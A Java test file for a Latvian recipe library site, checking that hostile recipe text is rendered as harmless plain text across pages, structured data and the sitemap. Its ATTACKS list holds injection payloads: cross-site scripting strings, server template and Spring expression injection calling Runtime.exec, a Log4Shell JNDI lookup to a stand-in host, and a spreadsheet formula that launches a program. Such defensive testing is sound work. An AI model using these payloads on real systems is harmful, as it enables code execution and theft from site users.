package lv.burtnica.library;

import static org.assertj.core.api.Assertions.assertThat;

import tools.jackson.databind.json.JsonMapper;
import java.nio.charset.StandardCharsets;
import java.util.List;
import lv.burtnica.people.Person;
import lv.burtnica.people.Role;
import lv.burtnica.people.TestPeople;
import lv.burtnica.recipe.MealKind;
import lv.burtnica.recipe.RecipeDraft;
import lv.burtnica.recipe.RecipePage;
import lv.burtnica.recipe.Review;
import lv.burtnica.recipe.YieldUnit;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.transaction.annotation.Transactional;

/**
 * Recipes written to do harm, in every field. The attacks are those that worked on other recipe keepers: scripts in notes, steps, names and
 * the page's own description, templates in step texts that the server ran, addresses that are scripts.
 */
@Transactional
class HostileTextTest extends ShelfTest {

    static final List<String> ATTACKS = List.of(
            "<script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "<!--<script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "<iframe src=//launs.example></iframe>",
            "<svg/onload=alert(1)>",
            "</title><script>alert(1)</script>",
            "[saite](javascript:alert(1))",
            "javascript:alert(1)",
            "{{ 1337*1337 }} ${1337*1337} #{1337*1337} *{1337*1337}",
            "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
            "[[${1337*1337}]] [(${1337*1337})]",
            "${jndi:ldap://launs.example/a}",
            "{% import os %}{{ cycler.__init__.__globals__ }}",
            "]]><x/>&launs;",
            "a\u2028b\u2029c",
            "\u202Etxt.exe",
            "=cmd|' /C calc'!A0");

    @Autowired
    private Review review;

    private Person member;
    private Person worker;

    @BeforeEach
    void people() {
        member = TestPeople.add(application, "Skaidrīte <b>", Role.MEMBER);
        worker = TestPeople.add(application, "Ilze", Role.WORKER);
    }

    @ParameterizedTest
    @FieldSource("ATTACKS")
    void itIsOnlyTextOnThePage(String attack) {
        var page = page(address(published(attack)));
        assertHarmless(page);
        assertThat(page.select("h1").text()).isEqualTo(plain("Zupa " + attack));
        assertThat(page.text()).as("nothing was run").doesNotContain("1787569").contains(plain("Vāriet " + attack));
        assertThat(page.select("meta[property=og:title]").attr("content")).isEqualTo("Zupa " + attack);
        assertThat(page.select("meta[name=description]").attr("content")).contains(attack.strip());
    }

    @ParameterizedTest
    @FieldSource("ATTACKS")
    void itIsOnlyTextForSearchMachines(String attack) throws Exception {
        var page = page(address(published(attack)));
        var data = page.select("script[type=application/ld+json]");
        assertThat(data).hasSize(1);
        assertThat(data.html()).doesNotContain("<", ">", "\u2028", "\u2029");
        var json = JsonMapper.builder().build().readTree(data.html());
        assertThat(json.path("name").asString()).isEqualTo("Zupa " + attack);
        assertThat(json.path("recipeInstructions").toString()).doesNotContain("1787569");
    }

    @ParameterizedTest
    @FieldSource("ATTACKS")
    void itIsOnlyTextInListsAndInTheMapOfTheSite(String attack) {
        published(attack);
        assertHarmless(page("/biblioteka/lv"));
        assertHarmless(page("/biblioteka/lv/receptes"));
        assertHarmless(page("/biblioteka/lv/receptes?meklet=" + Addresses.parameter(attack)));
        var map = text(answer("/sitemap.xml"));
        assertThat(map.contains("<script") || map.contains("<!") || map.contains("]]>") || map.contains("&launs")).as("markup").isFalse();
        assertThat(map.getBytes(StandardCharsets.UTF_8)).isNotEmpty();
    }

    private RecipePage published(String attack) {
        var draft = new RecipeDraft(
                "Zupa " + attack, "Par to: " + attack, MealKind.SOUP, 4, YieldUnit.PORTION, attack, 50,
                "Grupa " + attack + ":\n2 burkāni " + attack + "\n" + attack,
                "Vāriet " + attack + "\n" + attack, attack, attack, attack, attack, attack, null, "", null, null, null, "lv");
        var sent = recipes.add(draft, member);
        return review.publish(sent.id(), sent.version(), worker);
    }

    private static void assertHarmless(Document page) {
        assertThat(page.select("script:not([type=application/ld+json]), iframe, object, embed, style, base")).isEmpty();
        assertThat(page.getAllElements()).allSatisfy(element -> assertThat(element.attributes()).noneMatch(
                attribute -> attribute.getKey().startsWith("on") || attribute.getKey().equals("style")));
        assertThat(page.select("[href], [src], [action]")).allSatisfy(element -> {
            for (var name : List.of("href", "src", "action")) {
                assertThat(element.attr(name)).matches("|/.*|#.*|https?://.*").doesNotStartWith("//");
            }
        });
        assertThat(page.select("svg, img[src=x]")).isEmpty();
    }

    /** As jsoup gives text: with single spaces. */
    private static String plain(String text) {
        return text.replaceAll("[ \\t\\n\\r\\f]+", " ").strip();
    }

    private static String address(RecipePage page) {
        return "/biblioteka/lv/receptes/" + page.recipe().key();
    }
}
